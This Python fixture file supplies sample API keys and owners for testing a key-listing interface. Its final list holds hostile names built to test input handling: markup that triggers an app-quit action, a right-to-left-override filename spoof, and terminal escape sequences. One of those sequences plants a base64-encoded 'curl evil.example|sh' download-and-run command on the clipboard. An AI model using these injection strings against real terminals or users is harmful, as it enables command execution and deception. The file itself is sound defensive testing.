"""Sample owners and keys: ordinary ones, and ones with hostile names."""

from __future__ import annotations

from typing import NamedTuple

SIGNED_IN_USER = "ana@acme.example"
SIGN_IN_KEY = "laptop-terminal"
"""Name of the key that the demo's credentials belong to."""


class SampleKey(NamedTuple):
    """A key with its age and last use in days; None without a date."""

    name: str
    created: float | None
    last_used: float | None


OWN_KEYS = [
    SampleKey("laptop-terminal", 24, 5 / 24),
    SampleKey("ci-runner", 191, 2 / 1440),
    SampleKey("airflow-prod", 143, 38 / 1440),
    SampleKey("training-scheduler", 88, 3 / 24),
    SampleKey("grafana-dashboards", 212, 1.3),
    SampleKey("model-registry-sync", 57, 12),
    SampleKey("nightly-benchmark-of-the-recommendation-models-in-eu-west-1", 118, 26),
    SampleKey("quarterly-cost-report", 301, 52),
    SampleKey("notebook-export", 164, 61),
    SampleKey("data-loader-staging", 240, 80),
    SampleKey("slurm-bridge", 398, 133),
    SampleKey("tmp-migration", 75, None),
]

COLLEAGUES = {
    "bo.lindqvist@acme.example": 9,
    "chidi.okafor@acme.example": 8,
    "dana.levi@acme.example": 8,
    "emil.novak@acme.example": 7,
    "farah.haddad@acme.example": 6,
    "grace.kim@acme.example": 6,
    "hugo.martins@acme.example": 5,
    "ines.garcia@acme.example": 5,
    "Kenji.Sato@acme.example": 4,
    "ml-platform@acme.example": 4,
}
"""Number of ordinary keys of each colleague."""

KEY_NAMES = [
    "airflow-prod",
    "airflow-staging",
    "argo-workflows",
    "batch-inference",
    "billing-export",
    "ci-runner",
    "cluster-autoscaler",
    "cost-report",
    "data-loader",
    "dbt-nightly",
    "demo-booth",
    "feature-store",
    "github-actions",
    "gitlab-ci",
    "grafana",
    "hackathon-2025",
    "home-office",
    "jenkins-old",
    "jupyter-hub",
    "kubeflow-pipelines",
    "laptop",
    "llm-finetuning",
    "metrics-scraper",
    "mlflow-sync",
    "model-registry",
    "notebook-export",
    "onboarding-test",
    "prometheus",
    "quota-watch",
    "ray-cluster",
    "slack-bot",
    "terraform",
    "thesis-experiments",
    "tmp-migration",
    "vscode-remote",
    "workstation",
]

CROWD = {
    f"user{number:02d}@acme.example": count
    for number, count in enumerate(
        (20, 19, 18, 17, 15, 14, 13, 12, 11, 11, *[7] * 44, *[6] * 5), start=1
    )
}
"""Number of keys of each owner in a crowd: 59 owners of 488 keys."""

LONG_TIME_OWNERS = frozenset(list(CROWD)[-6:])
"""Owners whose keys are all too old for the list of 100."""

_LONGEST_NAME = ("a-key-whose-name-is-as-long-as-the-contract-allows-" * 6)[:254] + "z"

AWKWARD_KEYS = [
    (SampleKey("[/x]", 130, 4), "bo.lindqvist@acme.example"),
    (SampleKey("[RED] team", 97, 0.2), "chidi.okafor@acme.example"),
    (SampleKey("[@click=app.quit]click[/]", 205, 70), "dana.levi@acme.example"),
    (SampleKey(_LONGEST_NAME, 46, 9), "emil.novak@acme.example"),
    (SampleKey("東京-実験用キー", 152, 30), "Kenji.Sato@acme.example"),
    (SampleKey("re\u0301sume\u0301-parser-n\u0303andu\u0301", 66, 51), "ines.garcia@acme.example"),
    (SampleKey("מפתח-ייצור", 81, 2), "dana.levi@acme.example"),
    (SampleKey("مفتاح-التدريب", 260, 120), "farah.haddad@acme.example"),
    (SampleKey("invoice-\u202egnp.stset", 33, None), "grace.kim@acme.example"),
    (
        SampleKey("\U0001f469\u200d\U0001f4bb-\U0001f468\u200d\U0001f469\u200d\U0001f467", 20, 6),
        "hugo.martins@acme.example",
    ),
    (SampleKey("imported-from-2-20", None, 400), "ml-platform@acme.example"),
    # OSC 52 sets the clipboard, OSC 0 the title, CSI clears the screen: anyone who chooses a
    # createdBy can send them.
    (
        SampleKey("shared-terminal", 58, 1),
        "mallory\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07@acme.example",
    ),
    (
        SampleKey("tmux-helper", 110, 94),
        "\x1b]0;owned\x1b\\\x1b[2J\x1b[31mtrent@acme.example\x1b[0m",
    ),
]
"""Keys and owners whose names break programs that trust text from outside."""
